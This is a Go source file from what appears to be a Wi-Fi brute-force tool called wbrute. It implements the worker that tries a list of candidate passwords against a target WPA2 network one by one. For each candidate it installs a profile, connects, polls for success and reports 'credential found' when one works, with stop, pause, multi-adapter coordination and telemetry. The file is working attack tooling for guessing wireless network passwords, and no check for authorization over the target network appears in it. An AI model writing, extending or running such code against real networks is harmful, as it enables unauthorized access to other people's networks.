package bruteforce

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/lcalzada-xor/wbrute/internal/core/domain"
	"github.com/lcalzada-xor/wbrute/internal/core/ports"
	"github.com/lcalzada-xor/wbrute/internal/telemetry"
	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
)

const cleanupTimeout = 5 * time.Second

// WorkerConfig holds the timing of one connection attempt.
type WorkerConfig struct {
	// PollInterval is the delay between two status queries.
	PollInterval time.Duration
	// ConnectTimeout bounds how long one candidate may take to connect.
	ConnectTimeout time.Duration
	// SettleDelay lets the adapter settle after a failed attempt.
	SettleDelay time.Duration
}

// DefaultWorkerConfig polls every 500ms for up to 5s and settles for 100ms.
func DefaultWorkerConfig() WorkerConfig {
	return WorkerConfig{
		PollInterval:   500 * time.Millisecond,
		ConnectTimeout: 5 * time.Second,
		SettleDelay:    100 * time.Millisecond,
	}
}

func (c WorkerConfig) withDefaults() WorkerConfig {
	def := DefaultWorkerConfig()
	if c.PollInterval <= 0 {
		c.PollInterval = def.PollInterval
	}
	if c.ConnectTimeout <= 0 {
		c.ConnectTimeout = def.ConnectTimeout
	}
	if c.SettleDelay < 0 {
		c.SettleDelay = 0
	}
	return c
}

// WorkerState is how a worker ended.
type WorkerState string

const (
	WorkerSucceeded WorkerState = "succeeded"
	WorkerExhausted WorkerState = "exhausted"
	WorkerStopped   WorkerState = "stopped"
	WorkerFailed    WorkerState = "failed"
)

// WorkerResult is returned by Worker.Run.
type WorkerResult struct {
	Adapter  domain.AdapterHandle
	State    WorkerState
	Outcome  *domain.AttemptOutcome
	Attempts int
	Err      error
}

// EventFunc receives attack events. It must not block.
type EventFunc func(domain.AttackEvent)

type attemptResult int

const (
	attemptFailed attemptResult = iota
	attemptConnected
	attemptStopped
)

// Worker drives one adapter through a candidate list, one candidate at a time.
type Worker struct {
	attackID string
	handle   domain.AdapterHandle
	adapter  ports.WirelessAdapter
	cfg      WorkerConfig
	emit     EventFunc
	progress *Progress
	logger   *slog.Logger
}

// NewWorker binds a worker to one adapter. emit and progress may be nil.
func NewWorker(attackID string, handle domain.AdapterHandle, adapter ports.WirelessAdapter, cfg WorkerConfig, emit EventFunc, progress *Progress) *Worker {
	if emit == nil {
		emit = func(domain.AttackEvent) {}
	}
	if progress == nil {
		progress = NewProgress(0, nil)
	}
	return &Worker{
		attackID: attackID,
		handle:   handle,
		adapter:  adapter,
		cfg:      cfg.withDefaults(),
		emit:     emit,
		progress: progress,
		logger:   slog.Default().With("component", "worker", "adapter", handle.ID),
	}
}

// Run tries each candidate in order until one connects, the list runs out,
// or the stop signal is set. The pause gate is only consulted between candidates.
func (w *Worker) Run(ctx context.Context, target string, hidden bool, candidates domain.CandidateList, stop *StopSignal, gate *PauseGate) WorkerResult {
	ctx, span := otel.Tracer("bruteforce").Start(ctx, "Worker.Run")
	defer span.End()
	span.SetAttributes(
		attribute.String("attack.id", w.attackID),
		attribute.String("adapter.id", w.handle.ID),
		attribute.Int("candidates", candidates.Len()),
	)

	telemetry.ActiveWorkers.Inc()
	defer telemetry.ActiveWorkers.Dec()

	res := WorkerResult{Adapter: w.handle}
	if candidates.IsEmpty() {
		res.State = WorkerFailed
		res.Err = domain.ErrNoCandidates
		return res
	}

	if gate == nil {
		gate = NewPauseGate()
	}

	for i := 0; i < candidates.Len(); i++ {
		candidate := candidates.At(i)
		begin := func() {
			ev := w.event(domain.EventAttemptStarted)
			ev.CandidateIndex = i
			ev.Candidate = candidate
			w.emit(ev)
			w.progress.Begin(w.handle.Name, candidate)
		}
		if !gate.Enter(ctx, stop, begin) {
			return w.stopped(res)
		}

		result, err := w.attempt(ctx, target, hidden, candidate, stop)
		res.Attempts++

		if errors.Is(err, domain.ErrAdapterGone) {
			telemetry.AttemptsTotal.WithLabelValues(w.handle.ID, telemetry.ResultError).Inc()
			span.SetStatus(codes.Error, err.Error())
			return w.failed(res, err)
		}

		switch result {
		case attemptConnected:
			w.progress.Complete()
			telemetry.AttemptsTotal.WithLabelValues(w.handle.ID, telemetry.ResultConnected).Inc()
			if !stop.Trip() {
				// A sibling connected first; leave the network to it.
				w.cleanup(ctx)
				return w.stopped(res)
			}
			res.State = WorkerSucceeded
			res.Outcome = &domain.AttemptOutcome{Candidate: candidate, Adapter: w.handle, Connected: true}

			found := w.event(domain.EventCredentialFound)
			found.CandidateIndex = i
			found.Candidate = candidate
			w.emit(found)
			w.logger.Info("credential found", "target", target, "index", i)
			return res

		case attemptStopped:
			telemetry.AttemptsTotal.WithLabelValues(w.handle.ID, telemetry.ResultAborted).Inc()
			w.cleanup(ctx)
			return w.stopped(res)
		}

		w.progress.Complete()
		failed := w.event(domain.EventAttemptFailed)
		failed.CandidateIndex = i
		failed.Candidate = candidate
		if err != nil {
			failed.Error = err.Error()
			telemetry.AttemptsTotal.WithLabelValues(w.handle.ID, telemetry.ResultError).Inc()
			w.logger.Debug("attempt error", "index", i, "error", err)
		} else {
			telemetry.AttemptsTotal.WithLabelValues(w.handle.ID, telemetry.ResultFailed).Inc()
		}
		w.emit(failed)

		if err := w.disconnect(ctx); errors.Is(err, domain.ErrAdapterGone) {
			return w.failed(res, err)
		}
		w.settle(stop)
	}

	res.State = WorkerExhausted
	w.emit(w.event(domain.EventWorkerExhausted))
	return res
}

// attempt installs a fresh profile for candidate, connects and polls the result.
func (w *Worker) attempt(ctx context.Context, target string, hidden bool, candidate string, stop *StopSignal) (attemptResult, error) {
	if err := w.adapter.ClearProfiles(ctx); err != nil {
		return attemptFailed, fmt.Errorf("clear profiles: %w", err)
	}

	profile, err := w.adapter.AddProfile(ctx, domain.NewWPA2Profile(target, candidate, hidden))
	if err != nil {
		return attemptFailed, fmt.Errorf("add profile: %w", err)
	}

	if err := w.adapter.Connect(ctx, profile); err != nil {
		return attemptFailed, fmt.Errorf("connect: %w", err)
	}

	return w.waitForConnection(ctx, stop)
}

// waitForConnection polls Status every PollInterval until connected, the
// timeout elapses, or the stop signal is set.
func (w *Worker) waitForConnection(ctx context.Context, stop *StopSignal) (attemptResult, error) {
	deadline := time.NewTimer(w.cfg.ConnectTimeout)
	defer deadline.Stop()
	ticker := time.NewTicker(w.cfg.PollInterval)
	defer ticker.Stop()

	for {
		select {
		case <-stop.Done():
			return attemptStopped, nil
		case <-ctx.Done():
			return attemptStopped, nil
		case <-deadline.C:
			return w.pollOnce(ctx)
		case <-ticker.C:
			result, err := w.pollOnce(ctx)
			if err != nil || result == attemptConnected {
				return result, err
			}
		}
	}
}

func (w *Worker) pollOnce(ctx context.Context) (attemptResult, error) {
	status, err := w.adapter.Status(ctx)
	if err != nil {
		return attemptFailed, fmt.Errorf("status: %w", err)
	}
	if status.IsConnected() {
		return attemptConnected, nil
	}
	return attemptFailed, nil
}

// disconnect runs even when ctx is already cancelled so the adapter is left clean.
func (w *Worker) disconnect(ctx context.Context) error {
	cctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), cleanupTimeout)
	defer cancel()
	if err := w.adapter.Disconnect(cctx); err != nil {
		w.logger.Debug("disconnect failed", "error", err)
		return err
	}
	return nil
}

func (w *Worker) cleanup(ctx context.Context) {
	_ = w.disconnect(ctx)
}

// settle waits SettleDelay, returning early if the attack stops.
func (w *Worker) settle(stop *StopSignal) {
	if w.cfg.SettleDelay == 0 {
		return
	}
	t := time.NewTimer(w.cfg.SettleDelay)
	defer t.Stop()
	select {
	case <-t.C:
	case <-stop.Done():
	}
}

func (w *Worker) stopped(res WorkerResult) WorkerResult {
	res.State = WorkerStopped
	ev := w.event(domain.EventWorkerStopped)
	ev.Message = "stopped: found elsewhere or cancelled"
	w.emit(ev)
	return res
}

func (w *Worker) failed(res WorkerResult, err error) WorkerResult {
	res.State = WorkerFailed
	res.Err = err
	telemetry.WorkerFailures.WithLabelValues(w.handle.ID).Inc()
	ev := w.event(domain.EventWorkerFailed)
	ev.Error = err.Error()
	w.emit(ev)
	w.logger.Warn("worker terminated", "error", err)
	return res
}

func (w *Worker) event(typ domain.EventType) domain.AttackEvent {
	ev := domain.NewAttackEvent(w.attackID, typ)
	ev.Adapter = w.handle.ID
	return ev
}
